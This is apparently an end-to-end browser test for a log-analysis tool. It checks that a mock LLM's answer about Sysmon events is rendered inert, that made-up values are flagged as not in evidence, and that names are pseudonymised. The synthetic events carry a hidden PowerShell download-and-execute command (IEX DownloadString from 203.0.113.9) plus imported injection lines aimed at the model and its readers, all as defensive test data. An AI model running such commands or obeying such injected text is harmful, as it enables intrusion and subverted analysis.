import { operations, type AiRuns, type SubmittedJob } from '@svc/contracts';
import { once } from 'node:events';
import { createServer } from 'node:http';
import type { AddressInfo } from 'node:net';
import { json } from 'node:stream/consumers';
import type { Page } from 'playwright-core';
import { afterAll, expect, it } from 'vitest';
import { seriousBreaches } from '../support/axe.ts';
import { describeInBrowser } from '../support/browser.ts';
import { hostileLines, trap } from '../support/hostile-lines.ts';

/** A model that says the brief back, line by line, and what it has made up. */
const made = `## Verdict\n\nMalicious: \`DESKTOP-99Z\` ran \`evil-tool.exe\`, see finding 999999999.\n\n${trap}/answer`;
const echo = createServer((request, response) => {
  void (async () => {
    const { messages } = (await json(request)) as { messages: { role: string; content: string }[] };
    const brief = messages.find(({ role }) => role === 'user')?.content ?? '';
    // Each as a paragraph of its own, so that what it holds is Markdown.
    const lines = brief.split('\n').map((line) => line.replace(/^.*CommandLine=/, '').replaceAll('\\n', '\n'));
    response.writeHead(200, { 'content-type': 'text/event-stream' });
    for (const line of [made, brief, ...lines, ...hostileLines]) {
      const content = `${line}\n\n`;
      response.write(`data: ${JSON.stringify({ choices: [{ delta: { content }, finish_reason: null }] })}\n\n`);
    }
    response.end('data: [DONE]\n\n');
  })();
});
await once(echo.listen(0, '127.0.0.1'), 'listening');
const base = `http://127.0.0.1:${(echo.address() as AddressInfo).port}/v1`;
afterAll(() => echo.close());

/** Fifty events whose command lines carry what attackers would say to a model and its readers. */
const log = hostileLines
  .map((line, at) =>
    JSON.stringify({
      Channel: 'Microsoft-Windows-Sysmon/Operational',
      Provider: 'Microsoft-Windows-Sysmon',
      EventID: 1,
      EventRecordID: at + 1,
      Computer: 'WS01.contoso.com',
      SystemTime: `2026-08-01T10:${String(at).padStart(2, '0')}:00.000Z`,
      Image: 'C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe',
      User: 'CONTOSO\\alice',
      CommandLine: `powershell.exe -nop -w hidden -enc SQBFAFgA IEX (New-Object Net.WebClient).DownloadString('http://203.0.113.9/a') ; ${line}`,
    }),
  )
  .join('\n');

describeInBrowser('answers of models', ({ openAsAdmin, errors, server }) => {
  const post = async <T>(page: Page, path: string, data: unknown): Promise<T> => {
    const answer = await page.request.post(server().url + path, { data, headers: { origin: server().url } });
    expect([path, answer.ok() || (await answer.text())]).toEqual([path, true]);
    return (await answer.json()) as T;
  };

  it('are shown with what of them is in evidence, and nothing in them runs, loads or leads anywhere', async () => {
    const page = await openAsAdmin('/docs');
    await page.request.post(`${server().url}/admin/settings`, {
      data: { show_ai_analysis: true, show_ai_prompt: true },
      headers: { origin: server().url },
    });
    await post(page, operations.createAiProvider.path, {
      name: 'Echo',
      kind: 'openai',
      base_url: base,
      model: 'echo-1',
      pseudonyms: true,
      is_default: true,
    });
    const sent = await page.request.post(`${server().url}/upload`, {
      headers: { origin: server().url },
      multipart: { workflow_id: '1', file: { name: 'sysmon.jsonl', mimeType: 'text/plain', buffer: Buffer.from(log) } },
    });
    expect([sent.ok() || (await sent.text())]).toEqual([true]);
    const { job_id: job } = (await sent.json()) as SubmittedJob;
    const asked: string[] = [];
    page.on('request', (request) => asked.push(request.url()));
    await page.goto(`${server().url}/jobs/${job}`);
    await page.getByRole('tab', { name: 'AI analysis' }).click();
    await page.getByText('No model has been asked about this job').waitFor();
    await page.getByText('leave as stand-ins').waitFor();
    await page.getByRole('button', { name: 'Ask about this job' }).click();
    const run = page.getByRole('article', { name: 'Run by Echo' });
    await run.getByText('Completed', { exact: true }).waitFor();
    await run.getByText(/of this answer .* in evidence/).waitFor();

    // Its values, by whether the report has them.
    await run.locator('mark', { hasText: 'DESKTOP-99Z not in evidence' }).first().waitFor();
    await run.locator('mark', { hasText: 'evil-tool.exe not in evidence' }).first().waitFor();
    await run.locator('mark', { hasText: 'finding 999999999 not in evidence' }).first().waitFor();
    await run.locator('button[data-fact]', { hasText: '203.0.113.9' }).first().waitFor();
    await run
      .locator('button[data-fact]', { hasText: /^WS01\.contoso\.com$/i })
      .first()
      .waitFor();

    // What was sent names nobody; the answer does.
    const runs = await page.request.get(`${server().url}/jobs/${job}/ai-analysis`);
    const { selected } = (await runs.json()) as AiRuns;
    expect(selected?.prompt?.user).toContain('203.0.113.9');
    expect(selected?.prompt?.user).not.toMatch(/ws01|contoso|alice/i);
    expect(selected?.content).toContain('CONTOSO\\alice');

    // Nothing that was written by others is an element that runs, loads or leads anywhere.
    const held = await run.evaluate((article) =>
      ['a', 'img', 'script', 'style', 'iframe', 'form', 'input', 'svg:not([aria-hidden])', 'link', 'base', 'h1', 'h2']
        .flatMap((name) => [...article.querySelectorAll(name)])
        .map((element) => element.outerHTML.slice(0, 200)),
    );
    expect(held).toEqual([]);
    const handlers = await run.evaluate((article) =>
      [...article.querySelectorAll('*')].flatMap(({ attributes }) =>
        [...attributes].filter(({ name }) => name.startsWith('on')).map(({ name }) => name),
      ),
    );
    expect(handlers).toEqual([]);
    expect(await page.evaluate(() => 'hit' in window)).toBe(false);
    expect(asked.filter((url) => !url.startsWith(server().url))).toEqual([]);
    expect(page.url()).toMatch(/view=ai/);

    // A value opens beside the report, by keyboard as well.
    await run
      .locator('button[data-fact]', { hasText: /^WS01\.contoso\.com$/i })
      .first()
      .press('Enter');
    await page.getByRole('dialog', { name: /^Host WS01/i }).waitFor();
    await page.keyboard.press('Escape');
    expect(await seriousBreaches(page)).toEqual([]);
    await run.getByText('What was sent').click();
    await run.getByRole('region', { name: 'Brief' }).waitFor();
    expect(await seriousBreaches(page)).toEqual([]);

    // Others are deleted together, and what the bell tells of one leads to it.
    const ask = async (): Promise<string> => {
      const before = page.url();
      await page.getByRole('button', { name: 'Ask about this job' }).click();
      await page.waitForURL(({ href, searchParams }) => href !== before && searchParams.has('run'));
      const started = new URL(page.url()).searchParams.get('run')!;
      // The page may still show the run before it.
      const statusOf = async (): Promise<string | undefined> => {
        const answer = await page.request.get(`${server().url}/jobs/${job}/ai-analysis`);
        return ((await answer.json()) as AiRuns).runs.find(({ id }) => String(id) === started)?.status;
      };
      await expect.poll(statusOf).toBe('completed');
      await run.getByText('Completed', { exact: true }).waitFor();
      return started;
    };
    await post(page, `/jobs/${job}/watch`, {});
    const second = await ask();
    await page.goto(`${server().url}/jobs/${job}?view=ai`);
    await ask();
    const told = async (): Promise<number> => {
      const answer = await page.request.get(`${server().url}/notifications`);
      return ((await answer.json()) as { items: unknown[] }).items.length;
    };
    await expect.poll(told).toBe(2);
    await page.getByRole('button', { name: /^Notifications/ }).click();
    await page
      .getByRole('link', { name: /The AI analysis by Echo has ended/ })
      .nth(1)
      .click();
    await page.waitForURL(new RegExp(`run=${second}$`));
    await page.getByRole('button', { name: 'Delete several' }).click();
    await page.getByText('Pick the runs to delete.').waitFor();
    await page.getByRole('checkbox', { name: `Select run ${second} by Echo` }).check();
    await page.getByRole('button', { name: 'Delete 1 run for good' }).waitFor();
    await page.getByRole('button', { name: 'Pick all' }).click();
    expect(await seriousBreaches(page)).toEqual([]);
    await page.getByRole('checkbox', { name: 'Select run 1 by Echo' }).uncheck();
    await page.getByRole('button', { name: 'Delete 2 runs for good' }).click();
    await page.getByRole('button', { name: 'Delete several' }).waitFor({ state: 'detached' });
    // The one that is left takes the place of the one that was shown.
    const list = page.getByRole('navigation', { name: 'Runs, the newest first' });
    await expect.poll(() => list.getByRole('listitem').count()).toBe(1);
    await list.locator('[aria-current="true"]').waitFor();

    await run.getByRole('button', { name: 'Delete' }).click();
    await run.getByRole('button', { name: 'Delete for good' }).click();
    await page.getByText('No model has been asked about this job').waitFor();
    expect(errors()).toEqual([]);
  });
});
